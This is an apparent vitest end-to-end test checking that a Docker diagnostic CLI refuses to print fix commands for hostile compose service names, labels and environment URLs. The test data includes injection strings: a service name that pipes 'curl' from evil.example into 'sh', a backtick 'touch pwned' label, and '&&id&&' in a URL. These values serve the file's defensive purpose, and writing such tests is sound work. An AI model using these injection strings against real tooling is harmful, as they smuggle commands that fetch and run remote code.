import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commandFor } from '../../../src/shared/command/fix-command.ts';
import type { Finding } from '../../../src/shared/model/index.ts';
import { createDockerFixture } from '../support/docker-fixture.ts';
import { composeLabels, findingOf, findingsOf, runCheck, runCheckJson, summarize, tempWorkspace } from './run-check.ts';
import { createStubShell, type StubShell } from './stub-shell.ts';

/**
 * Issue 8 §2 end to end: hostile names in a real compose file, a real container's labels and its environment,
 * diagnosed by the real CLI against the real engine; every command it prints, in `--json` and in the human
 * report, is pasted into `/bin/sh` under a PATH of recording stubs.
 */
const fixture = createDockerFixture();
const HOSTILE_SERVICE = 'db;curl${IFS}evil.example|sh';
const HOSTILE_LABEL = 'job`touch pwned`';
let shell: StubShell;

beforeAll(async () => {
  shell = await createStubShell();
});
afterAll(() => shell.dispose());

describe('check: fix commands of a stack with hostile names', () => {
  it('prints only commands that run the intended tool with the intended arguments, and reports the names it refused', async () => {
    const ws = await tempWorkspace('sd-hostile-');
    const project = fixture.unique('hostile');
    await ws.write(
      'compose.yaml',
      [
        `name: ${project}`,
        'services:',
        `  '${HOSTILE_SERVICE}':`,
        '    image: busybox',
        '  web:',
        '    image: busybox',
        '    environment:',
        "      API_URL: 'http://x&&id&&y:80/'",
        "      OPT_URL: 'http://-s:80/'",
        "      GOOD_URL: 'http://nosuch-sd-host.invalid:80/'",
        '',
      ].join('\n'),
    );
    const job = await fixture.container({
      name: 'job',
      cmd: ['sh', '-c', 'exit 3'],
      labels: composeLabels(ws.dir, fixture.unique('jobs'), HOSTILE_LABEL),
    });
    expect(await fixture.waitForExit(job.id)).toBe(3);

    const { diagnosis } = await runCheckJson(ws);

    const notCreated = findingsOf(diagnosis, 'SERVICE_NOT_CREATED');
    const hostile = notCreated.find((f) => f.subject.includes('db;curl'));
    expect(hostile?.fix.description, summarize(diagnosis)).toContain(`${JSON.stringify(HOSTILE_SERVICE)} is not valid`);
    expect(hostile?.fix.command).toBeUndefined();
    expect(hostile?.fix.action).toBeUndefined();
    const web = notCreated.find((f) => f.subject.endsWith('/web'));
    expect(web?.fix.command).toBe(`docker compose -p ${project} up -d web`);
    expect(findingOf(diagnosis, 'DNS_UNRESOLVABLE_FROM_HOST', 'x&&id&&y').fix).toEqual({
      description: expect.stringContaining('"x&&id&&y" is not valid') as string,
    });
    const dash = findingsOf(diagnosis, 'DNS_UNRESOLVABLE_FROM_HOST').find((f) => f.subject === '-s');
    expect(dash?.fix.description).toContain('never a leading `-`');
    expect(findingOf(diagnosis, 'DNS_UNRESOLVABLE_FROM_HOST', 'nosuch-sd-host.invalid').fix.command).toBe(
      'getent hosts nosuch-sd-host.invalid',
    );
    // A label names the service anything; the container name Docker gave is still a valid one to act on.
    expect(findingOf(diagnosis, 'CONTAINER_EXITED', HOSTILE_LABEL).fix.command).toBe(`docker start ${job.name}`);

    const offered = diagnosis.findings.filter((f): f is Finding & { fix: { command: string } } => f.fix.command !== undefined);
    expect(offered.length).toBeGreaterThanOrEqual(3);
    for (const f of offered) {
      const run = await shell.run(f.fix.command);
      const what = `${f.id} ${f.subject}: ${f.fix.command}`;
      expect(run.stderr, what).toBe('');
      expect(run.created, what).toEqual([]);
      expect(run.calls, what).toEqual([commandFor((f.fix.look ?? f.fix.action)!)]);
    }

    // The human report's `run:` lines are the same commands, and nothing else.
    const human = await runCheck(ws);
    const runLines = human.stdout
      .split('\n')
      .filter((line) => line.startsWith('          run:   '))
      .map((line) => line.slice('          run:   '.length));
    expect(runLines.sort()).toEqual(offered.map((f) => f.fix.command).sort());
  });
});
